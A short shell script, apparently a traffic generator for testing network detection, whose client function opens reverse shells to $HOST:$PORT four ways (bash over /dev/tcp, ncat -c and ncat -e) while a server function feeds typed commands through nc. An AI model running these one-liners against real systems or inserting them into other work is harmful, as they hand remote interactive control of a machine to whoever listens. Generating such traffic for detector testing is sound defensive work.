# The shell connects, and obeys: bash by itself, and ncat.
# packages: ncat netcat-openbsd
. /run/traffic/typed.sh
server() { while typed | timeout 7 nc.openbsd -l "$PORT"; do :; done; }
client() {
	for i in 1 2 3 4 5 6 7; do
		case $((i % 4)) in
		0) timeout 6 bash -c "exec sh -i <>/dev/tcp/$HOST/$PORT 1>&0 2>&0" ;;
		1) timeout 6 ncat -c "bash --norc -i 2>&1" "$HOST" "$PORT" ;;
		2) timeout 6 ncat -e /bin/sh "$HOST" "$PORT" ;;
		3) timeout 6 bash -c "exec bash --norc -i <>/dev/tcp/$HOST/$PORT 1>&0 2>&0" ;;
		esac
		sleep 0.3
	done
}
